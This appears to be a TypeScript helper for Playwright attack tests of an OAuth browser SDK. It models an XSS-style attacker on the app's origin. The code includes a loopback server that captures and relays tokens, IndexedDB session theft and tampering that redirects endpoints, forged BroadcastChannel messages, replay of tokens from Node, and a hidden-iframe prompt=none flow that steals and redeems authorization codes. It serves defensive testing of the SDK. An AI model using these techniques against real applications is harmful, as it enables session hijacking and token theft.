// What the attacker of e2e/attacks/ has: a server of its own on loopback, and a script that runs
// once on the app's origin (XSS, a compromised dependency) or a second page of that origin.
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from '@playwright/test'
import * as oauth from 'oauth4webapi'
import { CLIENT_ID, IDB_NAME, IDB_STORE, PROVIDER, readIdb } from '../helpers'
import { OP } from '../oidc-provider/fixtures'

/** The namespace (issuer + client ID) of the harness's client at each provider: its record and channel names. */
export const NAMESPACE = { mock: `${PROVIDER}/#${CLIENT_ID}`, op: `${OP}/#${CLIENT_ID}` } as const
export const sessionKeyOf = (namespace: string) => `session:${namespace}`
export const channelOf = (namespace: string) => `pixie-auth:${namespace}`

/** One request the attacker's server received. */
export interface Captured {
  method: string
  /** The Host header: which name the request was sent to (every *.localhost is this server). */
  host: string
  path: string
  /** The form or JSON body as sent: a refresh token, a token to revoke... */
  body: string
  authorization?: string
}

export interface AttackerServer {
  /** http://127.0.0.1:<port> */
  origin: string
  /** Every request that reached it, CORS preflights included, in order. */
  received: Captured[]
  close(): Promise<void>
}

const MAX_BODY = 64 * 1024

async function readBody(req: IncomingMessage): Promise<string> {
  let body = ''
  for await (const chunk of req) {
    body += String(chunk)
    if (body.length > MAX_BODY) throw new Error('body too large')
  }
  return body
}

/**
 * Relays a request to the same path at `target`, as an attacker does who wants the app to keep
 * working (so nobody notices): a POST is forwarded and its answer returned, a navigation is
 * redirected there with its query.
 */
async function relay(req: IncomingMessage, res: ServerResponse, body: string, target: string) {
  const url = `${target}${req.url}`
  if (req.method === 'GET') {
    res.writeHead(302, { location: url })
    return res.end()
  }
  const headers: Record<string, string> = {}
  for (const name of ['content-type', 'accept', 'dpop', 'authorization']) {
    const value = req.headers[name]
    if (typeof value === 'string') headers[name] = value
  }
  const answer = await fetch(url, { method: req.method, headers, body, signal: AbortSignal.timeout(5_000) })
  const relayed: Record<string, string> = { 'content-type': answer.headers.get('content-type') ?? 'application/json' }
  for (const name of ['dpop-nonce', 'www-authenticate']) {
    const value = answer.headers.get(name)
    if (value) relayed[name] = value
  }
  res.writeHead(answer.status, relayed)
  res.end(await answer.text())
}

/**
 * Starts the attacker's server on 127.0.0.1 (a free port). It records everything it receives and,
 * given `relayTo`, relays it to the real provider; without, it answers 200 `{}`.
 */
export async function startAttackerServer(relayTo?: string): Promise<AttackerServer> {
  const received: Captured[] = []
  const server = createServer(async (req, res) => {
    try {
      const body = await readBody(req)
      received.push({ method: req.method ?? '', host: req.headers.host ?? '', path: req.url ?? '', body, authorization: req.headers.authorization })
      // Any page may call it: the attacker wants the browser's requests to succeed.
      res.setHeader('access-control-allow-origin', req.headers.origin ?? '*')
      res.setHeader('access-control-expose-headers', 'DPoP-Nonce, WWW-Authenticate')
      if (req.method === 'OPTIONS') {
        res.writeHead(204, { 'access-control-allow-methods': 'GET, POST', 'access-control-allow-headers': 'authorization, content-type, dpop, accept' })
        return res.end()
      }
      if (relayTo) return await relay(req, res, body, relayTo)
      res.writeHead(200, { 'content-type': 'application/json' })
      res.end('{}')
    } catch (error) {
      if (!res.headersSent) res.writeHead(502, { 'content-type': 'text/plain' })
      res.end(String(error))
    }
  })
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject)
    server.listen(0, '127.0.0.1', resolve)
  })
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  const close = () =>
    new Promise<void>((resolve) => {
      server.close(() => resolve())
      server.closeAllConnections()
    })
  return { origin, received, close }
}

/** What the attacker's server received, as `METHOD /path`, CORS preflights left out. */
export const requestsAt = (attacker: AttackerServer) =>
  attacker.received.filter(({ method }) => method !== 'OPTIONS').map(({ method, path }) => `${method} ${path.split('?')[0]}`)

// ---------------------------------------------------------------------------------------------
// The script that runs once
// ---------------------------------------------------------------------------------------------

/** What a script that runs once finds in IndexedDB: the stored session of `namespace`. */
export async function stealSession(page: Page, namespace: string) {
  const entry = (await readIdb(page)).find(({ key }) => key === sessionKeyOf(namespace))
  const record = entry?.value as { session?: { accessToken: string; refreshToken?: string; idToken?: string; tokenType: string } } | undefined
  if (!record?.session) throw new Error(`no session stored under ${sessionKeyOf(namespace)}`)
  return record.session
}

/**
 * A value the JSON boundary of page.evaluate cannot carry as it is: decoded inside the page.
 * 'now+1' is a valid version (a safe integer, just after the current time) chosen by the attacker.
 */
export type ForgedVersion = 'Infinity' | 'NaN' | '1e300' | 'string' | 'now+1'
export const BAD_VERSIONS: ForgedVersion[] = ['Infinity', 'NaN', '1e300', 'string']

/**
 * The script that runs once rewrites the stored session record of `namespace` with raw IndexedDB
 * calls, then leaves: `endpoints` are merged into `session.metadata`, `version` replaces the version.
 */
export async function tamperStoredRecord(
  page: Page,
  namespace: string,
  change: { endpoints?: Record<string, string>; version?: ForgedVersion },
) {
  await page.evaluate(
    ({ dbName, storeName, key, endpoints, version }) =>
      new Promise<void>((resolve, reject) => {
        const decode = (tag: string) =>
          ({ Infinity, NaN, '1e300': 1e300, string: String(Date.now() + 1), 'now+1': Date.now() + 1 })[tag]
        const open = indexedDB.open(dbName)
        open.onerror = () => reject(open.error)
        open.onsuccess = () => {
          const db = open.result
          const tx = db.transaction(storeName, 'readwrite')
          const store = tx.objectStore(storeName)
          const read = store.get(key)
          read.onsuccess = () => {
            const record = read.result as { version: unknown; session?: { metadata?: Record<string, unknown> } } | undefined
            if (!record?.session) return reject(new Error(`no session stored under ${key}`))
            // Where an SDK that trusted storage kept the endpoints (pixie-auth 0.2 before issue 18 did).
            if (endpoints) record.session.metadata = { ...record.session.metadata, ...endpoints }
            if (version) record.version = decode(version)
            store.put(record, key)
          }
          tx.oncomplete = () => {
            db.close()
            resolve()
          }
          tx.onerror = () => reject(tx.error)
        }
      }),
    { dbName: IDB_NAME, storeName: IDB_STORE, key: sessionKeyOf(namespace), ...change },
  )
}

/** A forged tab message: a session of the attacker's, or the end of the session. */
export interface ForgedMessage {
  type: 'session' | 'ended'
  version: ForgedVersion
}

/** The attacker's tokens and user, as a forged `session` message carries them. */
export const FORGED = { accessToken: 'forged-access-token', refreshToken: 'forged-refresh-token', sub: 'mallory' }

/**
 * From `page` (any document of the app's origin), posts each of `messages` on the channel of
 * `namespace`, with a forged session that names the real endpoints, so only its tokens are the attacker's.
 */
export async function postForged(page: Page, namespace: string, issuer: string, tokenType: string, messages: ForgedMessage[]) {
  await page.evaluate(
    async ({ channelName, messages, issuer, tokenType, forged }) => {
      const decode = (tag: string) =>
        ({ Infinity, NaN, '1e300': 1e300, string: String(Date.now() + 1), 'now+1': Date.now() + 1 })[tag]
      const now = Date.now()
      const session = {
        accessToken: forged.accessToken,
        refreshToken: forged.refreshToken,
        tokenType,
        receivedAt: now,
        expiresAt: now + 3_600_000,
        user: { iss: issuer, sub: forged.sub, aud: 'pixie-e2e', iat: Math.floor(now / 1000), exp: Math.floor(now / 1000) + 3600 },
        metadata: (await (await fetch(`${issuer}/.well-known/openid-configuration`)).json()) as unknown,
      }
      const channel = new BroadcastChannel(channelName)
      for (const { type, version } of messages) {
        channel.postMessage(
          type === 'session' ? { type, version: decode(version), session } : { type, version: decode(version), reason: 'logout' },
        )
      }
      // Let the messages go out before the channel closes.
      await new Promise((resolve) => setTimeout(resolve, 50))
      channel.close()
    },
    { channelName: channelOf(namespace), messages, issuer, tokenType, forged: FORGED },
  )
}

// ---------------------------------------------------------------------------------------------
// Outside the browser: what copied tokens are worth from Node
// ---------------------------------------------------------------------------------------------

/** A DPoP key pair the attacker made outside the browser (extractable: it is the attacker's own). */
export async function attackerDPoP() {
  const keyPair = await oauth.generateKeyPair('ES256', { extractable: true })
  return oauth.DPoP({}, keyPair)
}

/**
 * Calls `url` from Node with `accessToken` as `scheme` (with `dpop`, a proof of the attacker's own
 * key, resent once with the server's nonce): the HTTP status the resource server answered.
 */
export async function useAccessTokenFromNode(url: string, accessToken: string, dpop?: oauth.DPoPHandle): Promise<number> {
  const call = () =>
    oauth.protectedResourceRequest(accessToken, 'GET', new URL(url), new Headers(), null, {
      DPoP: dpop,
      [oauth.allowInsecureRequests]: true,
      signal: AbortSignal.timeout(5_000),
    })
  try {
    return (await call()).status
  } catch (error) {
    if (dpop && oauth.isDPoPNonceError(error)) {
      try {
        return (await call()).status
      } catch (again) {
        return statusOf(again)
      }
    }
    return statusOf(error)
  }
}

function statusOf(error: unknown): number {
  // oauth4webapi throws for a 401 with a challenge, the status on the error.
  const { status } = error as { status?: unknown }
  if (typeof status === 'number') return status
  throw error
}

// ---------------------------------------------------------------------------------------------
// Acquisition of new tokens: the script's own prompt=none flow, which bypasses the SDK
// ---------------------------------------------------------------------------------------------

/** The app's page on the provider's site, where the attacker's script runs. */
export const SAME_SITE_APP = 'http://127.0.0.1:5173'
const REDIRECT_URI = `${SAME_SITE_APP}/silent-callback.html`

/** The code's whole callback query (code, state, iss), and the state and verifier the script made. */
export type Stolen = { code: string; query: string; state: string; verifier: string }
export type SilentOutcome = Stolen | { error: string }

/**
 * The attacker's script: its own prompt=none request in a hidden iframe, answered at a page of the
 * app's origin, whose URL it reads. Bounded: 5 s. Resolves with the code and the verifier it made.
 */
export async function silentFlowInFrame(page: Page, authorizationEndpoint: string): Promise<SilentOutcome> {
  await page.goto(`${SAME_SITE_APP}/silent-callback.html`)
  return page.evaluate(
    async ({ endpoint, clientId, redirectUri }) => {
      const b64url = (bytes: Uint8Array) => btoa(String.fromCharCode(...bytes)).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '')
      const verifier = b64url(crypto.getRandomValues(new Uint8Array(32)))
      const challenge = b64url(new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(verifier))))
      const url = new URL(endpoint)
      const params = { response_type: 'code', client_id: clientId, redirect_uri: redirectUri, scope: 'openid', prompt: 'none' }
      for (const [name, value] of Object.entries(params)) url.searchParams.set(name, value)
      const state = b64url(crypto.getRandomValues(new Uint8Array(16)))
      url.searchParams.set('state', state)
      url.searchParams.set('code_challenge', challenge)
      url.searchParams.set('code_challenge_method', 'S256')
      const frame = document.createElement('iframe')
      frame.style.display = 'none'
      frame.src = url.href
      document.body.append(frame)
      let answer: URLSearchParams | undefined
      for (let i = 0; i < 50 && !answer; i++) {
        await new Promise((resolve) => setTimeout(resolve, 100))
        try {
          const href = frame.contentWindow?.location.href ?? ''
          if (href.startsWith(redirectUri)) answer = new URL(href).searchParams
        } catch {
          // Still at the provider: another origin.
        }
      }
      frame.remove()
      if (!answer) return { error: 'no answer within 5 s' }
      const code = answer.get('code')
      return code ? { code, query: answer.toString(), state, verifier } : { error: answer.get('error') ?? 'no code, no error' }
    },
    { endpoint: authorizationEndpoint, clientId: CLIENT_ID, redirectUri: REDIRECT_URI },
  )
}

/** The attacker redeems the code from Node, with a DPoP key of its own when `dpop` is given. */
export async function redeemFromNode(issuer: string, { query, state, verifier }: Stolen, dpop?: oauth.DPoPHandle) {
  const url = new URL(issuer)
  const as = await oauth.processDiscoveryResponse(url, await oauth.discoveryRequest(url, { [oauth.allowInsecureRequests]: true }))
  const client = { client_id: CLIENT_ID }
  const callback = oauth.validateAuthResponse(as, client, new URLSearchParams(query), state)
  const redeem = async () =>
    oauth.processAuthorizationCodeResponse(
      as,
      client,
      await oauth.authorizationCodeGrantRequest(as, client, oauth.None(), callback, REDIRECT_URI, verifier, {
        DPoP: dpop,
        [oauth.allowInsecureRequests]: true,
      }),
      { expectedNonce: oauth.expectNoNonce, requireIdToken: true },
    )
  return redeem().catch((error: unknown) => (oauth.isDPoPNonceError(error) ? redeem() : Promise.reject(error)))
}
